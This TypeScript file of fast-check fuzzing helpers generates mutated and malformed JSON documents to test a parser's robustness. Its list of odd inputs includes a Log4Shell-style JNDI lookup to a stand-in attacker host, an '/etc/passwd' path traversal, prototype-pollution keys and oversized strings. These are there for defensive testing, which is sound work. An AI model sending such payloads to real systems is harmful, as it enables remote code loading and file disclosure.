import fc from 'fast-check';
import { hostileTexts } from '../../kit/hostileText.ts';
import { anyText } from '../../kit/anyText.ts';

/** Inputs that are like valid ones: each is a valid document with a few changes of its structure. */

type Parent = Record<string, unknown> | unknown[];

/** A place in a document. The document itself is the only item of a list. */
interface Place {
  readonly parent: Parent;
  readonly key: string;
}

/** Changes a document at a place, among all of its places. */
type Mutation = (place: Place, all: readonly Place[]) => void;

const manyItems = 10_000;
const deepLevels = 400;
const hugeText = 'x'.repeat(100_000);

/** Keys that mean something to JavaScript or to a terminal. */
const oddKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'length',
  'then',
  '',
  '0',
  '-1',
  'a.b',
  'a/b~c',
  '*',
  '\u001b[2J',
  '\u202e',
  'k'.repeat(5_000),
];

const oddTexts = [
  ...hostileTexts.map(({ text }) => text),
  hugeText,
  ...oddKeys,
  'true',
  'null',
  'NaN',
  'Infinity',
  '-0',
  '1e999',
  '0x10',
  '2026-02-30T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  '9'.repeat(400),
  '../../../etc/passwd',
  '%00',
  '${jndi:ldap://evil.example}',
  `${'a.'.repeat(2_000)}!`,
  `${'-'.repeat(5_000)}!`,
  ','.repeat(20_000),
  '('.repeat(20_000),
  ' '.repeat(20_000),
];

const oddNumbers = [
  0,
  -0,
  1,
  -1,
  0.5,
  -0.1,
  1e308,
  -1e308,
  5e-324,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 - 1,
  2 ** 53,
  2 ** 64,
  8.64e15,
  8.64e15 + 1,
];

const text: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...oddTexts),
  anyText({ maxLength: 40 }),
  fc.string({ maxLength: 40 }),
);

/** Any JSON value: a small one of each type, and extremes. */
const value: fc.Arbitrary<unknown> = fc.oneof(
  text,
  fc.constantFrom<unknown>(...oddNumbers),
  fc.constantFrom<unknown>(null, true, false, {}, [], [[]], [null], { length: 1 }, [{}], ['']),
  fc.jsonValue({ maxDepth: 2 }),
);

const key = fc.oneof(fc.constantFrom(...oddKeys), anyText({ maxLength: 20 }));

/** Wraps a value in lists or objects. */
const deepened = (inner: unknown, inLists: boolean): unknown => {
  let outer = inner;
  for (let level = 0; level < deepLevels; level += 1) outer = inLists ? [outer] : { spec: outer };
  return outer;
};

/** The other types that a careless author or an attacker writes a value as. */
function retyped(one: unknown, way: number): unknown {
  const ways: ((given: unknown) => unknown)[] = [
    (given) => [given],
    (given) => JSON.stringify(given),
    (given) => ({ value: given }),
    (given) =>
      typeof given === 'object' && given !== null ? Object.values(given) : { [String(given)]: given },
    (given) => Number(given),
    (given) => (Array.isArray(given) ? Object.assign({}, given) : given === undefined),
  ];
  const changed = ways[way % ways.length]?.(one);
  return typeof changed === 'number' && !Number.isFinite(changed) ? 0 : changed;
}

const mutations: fc.Arbitrary<Mutation> = fc.oneof(
  fc.constant<Mutation>(remove),
  value.map(
    (one): Mutation =>
      (place) =>
        write(place, one),
  ),
  value.map(
    (one): Mutation =>
      (place) =>
        write(place, one),
  ),
  fc.nat({ max: 5 }).map(
    (way): Mutation =>
      (place) =>
        write(place, retyped(read(place), way)),
  ),
  fc.boolean().map(
    (inLists): Mutation =>
      (place) =>
        write(place, deepened(read(place), inLists)),
  ),
  key.map(
    (name): Mutation =>
      (place) =>
        rename(place, name),
  ),
  fc.tuple(key, value).map(
    ([name, one]): Mutation =>
      (place) =>
        add(place, name, one),
  ),
  fc.constantFrom(2, 33, manyItems).map(
    (count): Mutation =>
      (place) =>
        repeat(place, count),
  ),
  fc.nat().map(
    (index): Mutation =>
      (place, all) =>
        copy(place, all[index % all.length]),
  ),
  fc.tuple(fc.nat({ max: 40 }), text).map(
    ([at, part]): Mutation =>
      (place) =>
        insert(place, at, part),
  ),
);

/** Returns documents that differ from one of these by up to four mutations. */
export function mutationsOf(documents: readonly unknown[]): fc.Arbitrary<unknown> {
  const changes = fc.array(fc.record({ at: fc.nat(), mutation: mutations }), { minLength: 1, maxLength: 4 });
  return fc.tuple(fc.constantFrom(...documents), changes).map(([document, list]) => {
    const root = [copyOf(document)];
    for (const { at, mutation } of list) {
      const places = placesIn(root);
      const place = places[at % places.length];
      if (place !== undefined) mutation(place, places);
    }
    return root[0];
  });
}

/** Returns texts that differ from one of these: mutated as a whole, cut, or with other text inside. */
export function textsLike(samples: readonly string[]): fc.Arbitrary<string> {
  const sample = fc.constantFrom(...samples);
  return fc.oneof(
    text,
    fc
      .tuple(sample, fc.nat({ max: 60 }), text)
      .map(([one, at, part]) => one.slice(0, at) + part + one.slice(at)),
    fc.tuple(sample, fc.nat({ max: 60 })).map(([one, at]) => one.slice(0, at)),
    fc.tuple(sample, fc.constantFrom(2, 100, manyItems)).map(([one, times]) => `${one},`.repeat(times)),
    fc
      .tuple(sample, fc.nat({ max: 60 }), fc.nat({ max: 60 }))
      .map(([one, a, b]) => one.slice(0, a) + one.slice(b)),
  );
}

/** Returns JSON texts like these documents, and texts that are not JSON any more. */
export function jsonTextsLike(documents: readonly unknown[]): fc.Arbitrary<string> {
  const json = mutationsOf(documents).map((one) => JSON.stringify(one) ?? '');
  return fc.oneof(
    { weight: 8, arbitrary: json },
    {
      weight: 1,
      arbitrary: fc.tuple(json, fc.nat()).map(([one, at]) => one.slice(0, at % (one.length + 1))),
    },
    { weight: 1, arbitrary: fc.tuple(json, fc.nat(), text).map(([one, at, part]) => spliced(one, at, part)) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '',
        '{',
        'null',
        '[]',
        '"',
        '\u0000',
        '['.repeat(200_000),
        '{"a":'.repeat(50_000),
      ),
    },
  );
}

function spliced(one: string, at: number, part: string): string {
  const index = at % (one.length + 1);
  return one.slice(0, index) + part + one.slice(index);
}

/** A copy with own properties only, also of the key `__proto__`. */
function copyOf(document: unknown): unknown {
  return document === undefined ? undefined : JSON.parse(JSON.stringify(document));
}

function placesIn(root: unknown[]): Place[] {
  const places: Place[] = [{ parent: root, key: '0' }];
  const parents: unknown[] = [root[0]];
  // Enough for every document here; a list of thousands is one of many places.
  while (parents.length > 0 && places.length < 2_000) {
    const parent = parents.pop();
    if (!isParent(parent)) continue;
    for (const name of Object.keys(parent)) {
      places.push({ parent, key: name });
      parents.push(read({ parent, key: name }));
    }
  }
  return places;
}

function isParent(one: unknown): one is Parent {
  return typeof one === 'object' && one !== null;
}

function read({ parent, key: name }: Place): unknown {
  return Object.getOwnPropertyDescriptor(parent, name)?.value;
}

/** Defines an own property, also of the key `__proto__`, as JSON.parse does. */
function write({ parent, key: name }: Place, one: unknown): void {
  Object.defineProperty(parent, name, { value: one, enumerable: true, configurable: true, writable: true });
}

function remove({ parent, key: name }: Place): void {
  if (Array.isArray(parent)) parent.splice(Number(name), 1);
  else delete parent[name];
}

function rename({ parent, key: name }: Place, to: string): void {
  if (Array.isArray(parent)) return write({ parent, key: name }, to);
  const one = read({ parent, key: name });
  delete parent[name];
  write({ parent, key: to }, one);
}

function add(place: Place, name: string, one: unknown): void {
  const parent = read(place);
  if (Array.isArray(parent)) parent.push(one);
  else if (isParent(parent)) write({ parent, key: name }, one);
  else write(place, one);
}

function repeat(place: Place, count: number): void {
  const one = read(place);
  const item: unknown = Array.isArray(one) ? one[0] : one;
  write(
    place,
    Array.from({ length: count }, () => item),
  );
}

function copy(place: Place, from: Place | undefined): void {
  if (from !== undefined) write(place, copyOf(read(from)));
}

function insert(place: Place, at: number, part: string): void {
  const one = read(place);
  if (typeof one === 'string') write(place, one.slice(0, at) + part + one.slice(at));
  else write(place, part);
}
